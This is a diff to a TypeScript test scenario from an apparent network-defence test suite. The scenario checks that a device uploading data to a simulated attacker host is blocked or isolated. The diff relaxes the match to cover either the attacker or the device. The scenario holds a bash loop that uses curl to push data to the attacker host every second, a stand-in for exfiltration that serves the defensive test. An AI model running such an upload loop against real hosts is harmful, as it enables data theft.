@@ -5,7 +5,7 @@ export const scenario: Scenario = {
   group: 'attacks',
   attack: 'data_exfiltration',
   expectation:
-    'curl on the device uploads two megabytes to one host outside every second: the device is kept from that host.',
+    'curl on the device uploads two megabytes to one host outside every second: the device is kept from that host, or shut in.',
   honestClientVisits: 'neighbour',
   limitSeconds: 180,
   async run(field) {
@@ -13,8 +13,10 @@ export const scenario: Scenario = {
     const { attacker: thief, device } = field.network;
     await field.network.serve(thief, 'web');
     const theft = `while :; do head -c 2000000 /dev/urandom | curl -s -m 20 --data-binary @- -o /dev/null http://${thief.address}/status; sleep 1; done`;
-    await field.attackUntilRestricted(device, ['bash', '-c', theft], thief.address, {
+    const either = `${thief.address}|${device.address}|${device.mac}`;
+    await field.attackUntilRestricted(device, ['bash', '-c', theft], either, {
       leg: 'lan0',
+      isPattern: true,
       deadlineMs: 120_000,
     });
     const reaches = await field.network.getsPage(device, thief.address);
